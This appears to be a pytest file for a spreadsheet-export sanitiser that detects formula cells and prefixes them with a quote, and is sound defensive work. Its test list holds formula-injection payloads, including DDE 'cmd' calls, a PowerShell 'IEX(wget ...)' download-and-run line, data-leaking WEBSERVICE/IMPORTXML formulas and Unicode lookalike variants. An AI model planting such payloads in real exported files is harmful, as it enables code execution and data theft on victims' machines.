"""No table that a person opens runs what somebody wrote into a cell."""

from __future__ import annotations

import pandas as pd
import pyarrow as pa
import pytest

from deft.workspace.spreadsheets import for_people, is_formula

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget x)'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("//x/"&A1,"open")',
    "=IMPORTXML(CONCAT(A1))",
    "=WEBSERVICE(A1)",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    *("＝1+1", "＋1+cmd", "－1+cmd", "＠SUM(1)", "﹦1", "﹢1+a", "﹣1+a", "﹫a", "−1+a"),
    *(" =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2003＝1"),
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_in_any_dress_is_recognised_and_quoted_for_people(cell: str) -> None:
    assert is_formula(pa.array([cell]))[0].as_py()
    shown = for_people(pd.DataFrame({"description": [cell, "plain"], "score": [-1.5, 2.0]}))
    assert shown["description"].tolist() == ["'" + cell, "plain"]
    assert shown["score"].tolist() == [-1.5, 2.0]


@pytest.mark.parametrize("cell", ["", "board1/C1", "a=b", "1-2", "x@y", "'=1", "-1.5", "+3", "-.5e-3"])
def test_what_no_spreadsheet_runs_stays_as_it_is(cell: str) -> None:
    assert for_people(pd.DataFrame({"a": [cell]}))["a"].tolist() == [cell]


def test_the_table_itself_is_not_changed() -> None:
    table = pd.DataFrame({"a": ["=1"]})
    for_people(table)
    assert table["a"].tolist() == ["=1"]
